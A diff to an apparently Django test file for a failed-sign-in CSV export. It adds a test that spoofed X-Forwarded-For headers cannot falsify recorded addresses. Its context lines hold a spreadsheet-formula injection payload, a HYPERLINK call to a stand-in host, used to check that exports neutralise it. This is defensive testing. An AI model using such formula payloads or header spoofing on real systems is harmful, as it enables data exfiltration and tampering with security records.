@@ -120,3 +120,18 @@ def test_a_username_typed_as_a_formula_is_exported_as_text(admin_user: Any) -> N
     Client().post("/accounts/login/", {"username": '=HYPERLINK("http://x.example/?"&A1)', "password": "x"})
     rows = _csv(login(Client(), admin_user), "kind=failed+sign-in")
     assert {r["object"] for r in rows} == {"'=HYPERLINK(\"http://x.example/?\"&A1)"}
+
+
+def test_the_address_recorded_is_not_the_one_a_client_claims(admin_user: Any, settings: Any) -> None:
+    """X-Forwarded-For is what the client sent unless a proxy of ours appended to it (BEHIND_TLS_PROXY): a guesser
+    must not be able to write someone else's address into the record of their failed sign-ins."""
+    Client(REMOTE_ADDR="10.9.8.7").post("/accounts/login/", {"username": "pat", "password": "x"},
+                                        HTTP_X_FORWARDED_FOR="192.0.2.66")
+    rows = _csv(login(Client(), admin_user), "kind=failed+sign-in")
+    assert {r["address"] for r in rows} == {"10.9.8.7"}
+    # behind our TLS proxy, the address it appended last (what the throttling counts by), not the client's claim
+    settings.BEHIND_TLS_PROXY = True
+    Client(REMOTE_ADDR="127.0.0.1").post("/accounts/login/", {"username": "pat", "password": "y"},
+                                         HTTP_X_FORWARDED_FOR="192.0.2.66, 198.51.100.7")
+    rows = _csv(login(Client(), admin_user), "kind=failed+sign-in")
+    assert {r["address"] for r in rows} == {"10.9.8.7", "198.51.100.7"}
